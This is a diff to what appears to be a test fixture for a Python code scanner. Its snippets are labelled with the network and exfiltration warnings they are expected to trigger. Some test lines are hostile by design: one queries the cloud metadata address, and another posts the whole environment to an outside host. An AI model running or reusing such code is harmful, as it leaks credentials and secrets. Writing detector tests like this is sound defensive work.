@@ -1,11 +1,12 @@
 #: an ordinary request
 import requests
 requests.get("https://example.com/", timeout=3)
-requests.get("https://example.com/")  # expect: PY-NETWORK-TIMEOUT info
+requests.get("https://example.com/")  # expect: PY-NETWORK-TIMEOUT warning
 #: sockets and addresses
 import socket, urllib.request
 line = socket.socket()
-line.connect(("127.0.0.1", 9))  # expect: PY-NETWORK warning
+line.connect(("127.0.0.1", 9))
+line.connect(("mail.example.com", 25))  # expect: PY-NETWORK warning
 urllib.request.urlopen("http://203.0.113.9/x")  # expect: PY-NETWORK warning
 urllib.request.urlopen("http://169.254.169.254/latest/meta-data/")  # expect: PY-NETWORK warning
 urllib.request.urlopen("http://localhost:8000/")
@@ -42,7 +43,7 @@ ftplib.FTP_TLS("a.example.com")
 #: the whole environment
 import json, os, requests
 env = os.environ.copy()
-requests.post("https://example.com", json=dict(os.environ), timeout=1)  # expect: PY-SECRET-ENVIRONMENT error
+requests.post("https://example.com", json=dict(os.environ), timeout=1)  # expect: PY-EXFILTRATION error
 print(os.environ["HOME"], os.environ.get("LANG"))
 #: the whole environment as text
 import json, os
